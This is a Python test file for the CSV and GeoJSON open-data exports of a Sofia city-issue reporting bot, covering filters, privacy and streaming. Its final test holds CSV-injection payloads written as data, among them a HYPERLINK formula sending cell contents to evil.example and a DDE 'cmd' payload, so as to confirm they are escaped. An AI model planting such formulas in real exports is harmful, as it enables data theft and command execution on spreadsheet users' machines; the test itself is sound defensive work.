"""Open data exports over real HTTP against the started bot and its real database."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import timedelta

import aiohttp
import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import async_sessionmaker
from sqlmodel import col
from sqlmodel.ext.asyncio.session import AsyncSession

from bot.web.opendata import COLUMNS
from storage.db import Database
from storage.models import Report, ReportStatus
from storage.repos import reports
from tests.dbs import unreachable_url
from tests.web.test_open311 import NOW, PHONE, PHOTO, PUBLIC_URL, Reply, Server, insert_many

BOM = b"\xef\xbb\xbf"
HEADER = [
    "public_id",
    "category",
    "category_name_bg",
    "category_name_en",
    "status",
    "district",
    "district_name_bg",
    "district_name_en",
    "body",
    "body_name_bg",
    "body_name_en",
    "lat",
    "lon",
    "address",
    "description",
    "created",
    "updated",
    "closed",
    "resolve_by",
    "photo_url",
]


@pytest.fixture
async def server(bot_factory) -> AsyncIterator[Server]:
    app = await bot_factory([], web=True, http_public_url=PUBLIC_URL)
    async with aiohttp.ClientSession() as http:
        yield Server(app, http)


async def export(server: Server, name: str, **params: str) -> Reply:
    url = f"{server.app.web.url}/opendata/{name}"
    async with server.http.get(url, params=params) as resp:
        return Reply(resp.status, resp.headers, await resp.read())


def csv_rows(reply: Reply) -> list[dict[str, str]]:
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert reply.body.startswith(BOM)
    reader = csv.DictReader(io.StringIO(reply.body.decode("utf-8-sig"), newline=""))
    assert reader.fieldnames == HEADER
    return list(reader)


def features(reply: Reply) -> list[dict]:
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"] == "application/geo+json; charset=utf-8"
    data = json.loads(reply.body.decode("utf-8"))
    assert data["type"] == "FeatureCollection"
    return data["features"]


async def three_reports(server: Server) -> tuple[Report, Report, Report]:
    """A resolved one with a photo in district 02, one with an address only, a hidden one."""
    lat, lon = server.point("02")
    placed = await server.file(
        category="sofia-27",
        lat=lat,
        lon=lon,
        district="02",
        address="ул. Оборище 3",
        now=NOW - timedelta(days=3),
    )
    async with server.app.db.sessions() as session, session.begin():
        await reports.add_photo(
            session, report_id=placed.id, name=PHOTO, width=1, height=1, size=1, position=0
        )
    await server.change(placed.public_id, ReportStatus.RESOLVED, "Извозено", NOW)
    addressed = await server.file(address="бул. Витоша 1", now=NOW - timedelta(days=1))
    hidden = await server.file(description="Обидно съдържание", now=NOW - timedelta(hours=2))
    await server.hide(hidden.public_id)
    return placed, addressed, hidden


async def test_csv_has_a_bom_a_header_and_every_visible_report(server: Server):
    placed, addressed, _ = await three_reports(server)
    reply = await export(server, "reports.csv")
    assert reply.headers["Access-Control-Allow-Origin"] == "*"
    assert "creativecommons.org/licenses/by/4.0" in reply.headers["Link"]
    first, second = csv_rows(reply)
    assert first == {
        "public_id": placed.public_id,
        "category": "sofia-27",
        "category_name_bg": "Сметосъбиране и сметоизвозване",
        "category_name_en": "Waste collection",
        "status": "resolved",
        "district": "02",
        "district_name_bg": server.app.city.district("02").name("bg"),
        "district_name_en": server.app.city.district("02").name("en"),
        "body": "district-02",
        "body_name_bg": "Район „Красно село“",
        "body_name_en": "Krasno Selo District Administration",
        "lat": repr(placed.lat),
        "lon": repr(placed.lon),
        "address": "ул. Оборище 3",
        "description": "Препълнени кошчета на ъгъла",
        "created": "2026-11-24T12:00:00+02:00",
        "updated": "2026-11-27T12:00:00+02:00",
        "closed": "2026-11-27T12:00:00+02:00",
        "resolve_by": "2026-11-27T17:30:00+02:00",
        "photo_url": f"{PUBLIC_URL}/media/photos/{PHOTO}.jpg",
    }
    assert (second["public_id"], second["lat"], second["lon"]) == (addressed.public_id, "", "")
    assert (second["address"], second["district"], second["closed"]) == ("бул. Витоша 1", "", "")


async def test_geojson_has_points_and_the_licence(server: Server):
    placed, _, _ = await three_reports(server)
    reply = await export(server, "reports.geojson")
    data = json.loads(reply.body)
    assert data["license"] == "CC-BY-4.0"
    assert data["license_url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert "Столична община" in data["attribution"]
    [feature] = features(reply)  # the report without coordinates is left out
    assert feature["id"] == placed.public_id
    assert feature["geometry"] == {"type": "Point", "coordinates": [placed.lon, placed.lat]}
    assert feature["properties"]["category_name_en"] == "Waste collection"
    assert feature["properties"]["photo_url"] == f"{PUBLIC_URL}/media/photos/{PHOTO}.jpg"
    assert set(feature["properties"]) == set(HEADER) - {"lat", "lon"}


async def test_no_personal_data_and_no_hidden_reports(server: Server):
    *_, hidden = await three_reports(server)
    key = await server.key()
    lat, lon = server.point()
    form = {"api_key": key, "service_code": "sofia-1", "lat": str(lat), "long": str(lon)}
    assert (await server.post("requests.json", {**form, "phone": "0888999777"})).status == 200
    assert list(COLUMNS) == HEADER  # no reporter, contact phone, API key or source column
    for name in ("reports.csv", "reports.geojson"):
        body = (await export(server, name)).body.decode("utf-8-sig")
        for word in (PHONE, "0888999777", "777001", "telegram", "open311", key, "crm"):
            assert word not in body, (name, word)
        assert hidden.public_id not in body and "Обидно" not in body
    assert len(csv_rows(await export(server, "reports.csv"))) == 3


async def test_filters(server: Server):
    placed, addressed, _ = await three_reports(server)
    lat, lon = server.point("02")
    other = await server.file(category="sofia-27", lat=lat, lon=lon, district="02", now=NOW)

    async def ids(**params: str) -> list[str]:
        return [row["public_id"] for row in csv_rows(await export(server, "reports.csv", **params))]

    everything = [placed.public_id, addressed.public_id, other.public_id]
    assert await ids() == everything
    assert await ids(status="resolved") == [placed.public_id]
    assert await ids(status="closed") == [placed.public_id]
    assert await ids(status="open") == [addressed.public_id, other.public_id]
    assert await ids(status="new,resolved") == everything
    assert await ids(category="sofia-27") == [placed.public_id, other.public_id]
    assert await ids(district="02", status="new") == [other.public_id]
    assert await ids(since="2026-11-26") == [addressed.public_id, other.public_id]
    assert await ids(since="2026-11-27T11:30:00+02:00") == [other.public_id]
    geo = features(await export(server, "reports.geojson", category="sofia-1"))
    assert geo == []  # the only sofia-1 report has no coordinates

    for params, word in [
        ({"status": "pending"}, "pending"),
        ({"category": "potholes"}, "potholes"),
        ({"district": "99"}, "99"),
        ({"since": "last week"}, "since"),
    ]:
        for name in ("reports.csv", "reports.geojson"):
            reply = await export(server, name, **params)
            assert reply.status == 400
            assert word in json.loads(reply.body)["error"]


async def test_out_of_range_dates_and_control_characters_are_400_not_500(server: Server):
    await server.file()
    for params, word in [
        ({"since": "0001-01-01"}, "2000-2099"),
        ({"since": "9999-12-31T23:59:59-14:00"}, "2000-2099"),
        ({"since": "2026-11-01T00:00:00+15:00"}, "14:00"),
        ({"category": "sofia-1\x00"}, "control characters"),
        ({"district": "\x0001"}, "control characters"),
    ]:
        for name in ("reports.csv", "reports.geojson"):
            reply = await export(server, name, **params)
            assert reply.status == 400, (name, params, reply.body)
            assert reply.headers["Content-Type"] == "application/json; charset=utf-8"
            assert word in json.loads(reply.body)["error"], (name, params)


async def test_thousands_of_rows_are_streamed_in_batches(server: Server):
    await insert_many(server.app.db, 3003, start=NOW - timedelta(days=30))
    hide = update(Report).where(col(Report.seq).in_([1, 1500, 3003])).values(hidden=True)
    async with server.app.db.engine.begin() as conn:
        await conn.execute(hide)
    expected = [f"SOF-2026-{n:06d}" for n in range(2, 3003) if n != 1500]

    url = f"{server.app.web.url}/opendata/reports.csv"
    async with server.http.get(url) as resp:
        assert resp.headers["Transfer-Encoding"] == "chunked"
        assert "Content-Length" not in resp.headers
        chunks, body = 0, b""
        async for data, end_of_chunk in resp.content.iter_chunks():
            body += data
            chunks += end_of_chunk
    assert chunks >= 7  # the header, then one chunk per batch of rows
    rows = csv_rows(Reply(200, resp.headers, body))
    assert [r["public_id"] for r in rows] == expected

    found = features(await export(server, "reports.geojson"))
    assert [f["id"] for f in found] == expected


async def test_database_down_is_503(server: Server, db_url: str):
    await server.app.db.dispose()
    outage = Database(unreachable_url(db_url))
    server.app.db.sessions = async_sessionmaker(outage.engine, class_=AsyncSession)
    try:
        for name in ("reports.csv", "reports.geojson"):
            reply = await export(server, name)
            assert reply.status == 503
            assert "try again" in json.loads(reply.body)["error"]
    finally:
        await outage.dispose()


FORMULAS = (
    '=HYPERLINK("http://x/?"&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "＝4+4",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
)


async def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(server: Server):
    """OWASP CSV injection: text that starts like a formula is exported behind a `'`, as
    text; numbers (a negative coordinate) stay numbers; text that is not a formula is kept."""
    for text in FORMULAS:
        await server.file(description=text, address=text, now=NOW - timedelta(hours=3))
    await server.file(description="- 3 дупки, 1-во число", lat=-1.5, lon=-0.25)
    key = await server.key()
    form = {"api_key": key, "service_code": "sofia-1", "address_string": "=1+1"}
    form["description"] = '=HYPERLINK("http://evil.example/?"&A1,"Виж")'
    assert (await server.post("requests.json", form)).status == 200

    rows = csv_rows(await export(server, "reports.csv"))
    assert [r["description"] for r in rows] == [
        *("'" + text for text in FORMULAS),
        "'- 3 дупки, 1-во число",
        '\'=HYPERLINK("http://evil.example/?"&A1,"Виж")',
    ]
    assert [r["address"] for r in rows[: len(FORMULAS)]] == ["'" + t for t in FORMULAS]
    assert rows[-1]["address"] == "'=1+1"
    negative = rows[len(FORMULAS)]
    assert (negative["lat"], negative["lon"]) == ("-1.5", "-0.25")
    # GeoJSON is not a spreadsheet format: its properties stay as they were filed
    [feature] = features(await export(server, "reports.geojson"))
    assert feature["properties"]["description"] == "- 3 дупки, 1-во число"
    assert feature["geometry"]["coordinates"] == [-0.25, -1.5]
